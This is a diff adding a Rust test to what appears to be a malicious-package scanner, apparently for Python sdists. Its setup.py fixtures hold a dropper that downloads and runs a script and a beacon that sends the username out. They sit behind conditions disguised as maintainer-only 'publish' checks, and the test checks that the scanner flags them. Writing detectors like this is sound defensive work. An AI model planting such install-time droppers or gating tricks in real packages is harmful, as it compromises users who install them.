@@ -52,6 +52,56 @@ fn a_maintainer_command_block_in_setup_py_does_not_run_at_install() {
 }
 
 #[test]
+fn a_block_pip_can_reach_is_not_a_maintainer_command_because_it_quotes_one() {
+    // A dropper and a getuser() beacon behind conditions that quote a
+    // maintainer word but hold for a command pip passes (egg_info,
+    // bdist_wheel, install), or always.
+    let body = "    import getpass, os, urllib.request\n    urllib.request.urlretrieve('http://127.0.0.1:9/p', '/tmp/p')\n    os.system('sh /tmp/p')\n    urllib.request.urlopen('http://127.0.0.1:9/?u=' + getpass.getuser())\n";
+    let setup = |condition: &str, pre: &str| {
+        format!(
+            "import sys\nfrom setuptools import setup\n{pre}if {condition}:\n{body}setup(name='pkg')\n"
+        )
+    };
+    for (condition, pre) in [
+        (
+            "sys.argv[1] in ('egg_info', 'bdist_wheel', 'install', 'publish')",
+            "",
+        ),
+        ("'upload' in sys.argv[:1] + ['upload']", ""),
+        ("command == 'publish'", "command = 'publish'\n"),
+        (
+            "command == 'publish'",
+            "command = sys.argv[-1]\ncommand = 'publish'\n",
+        ),
+        ("'publish' in sys.argv or True", ""),
+        ("sys.argv[-1] == 'publish' or 1", ""),
+    ] {
+        let r = sdist(&[("setup.py", &setup(condition, pre))]);
+        assert_eq!(
+            r.verdict,
+            Verdict::Malicious,
+            "{condition}: {:#?}",
+            r.findings
+        );
+        assert!(
+            has(&r, "custody::network-egress", Phase::Install),
+            "{condition}"
+        );
+    }
+    // Controls: conditions only a maintainer's command makes true.
+    for (condition, pre) in [
+        ("sys.argv[-1] == 'publish'", ""),
+        ("'upload' in sys.argv", ""),
+        ("sys.argv[1] in ('publish', 'release')", ""),
+        ("len(sys.argv) > 1 and sys.argv[1] == 'publish'", ""),
+        ("command == 'publish'", "command = sys.argv[-1]\n"),
+    ] {
+        let r = sdist(&[("setup.py", &setup(condition, pre))]);
+        assert_eq!(r.verdict, Verdict::Clean, "{condition}: {:#?}", r.findings);
+    }
+}
+
+#[test]
 fn a_lambda_a_thread_starts_at_import_runs_at_import() {
     // webquickauth 2.3.5: `Thread(target=lambda: [py_run("""...""")])`.
     let started = "import getpass, threading, urllib.request\nthreading.Thread(target=lambda: urllib.request.urlopen('http://127.0.0.1:9/?u=' + getpass.getuser()), daemon=True).start()\n";
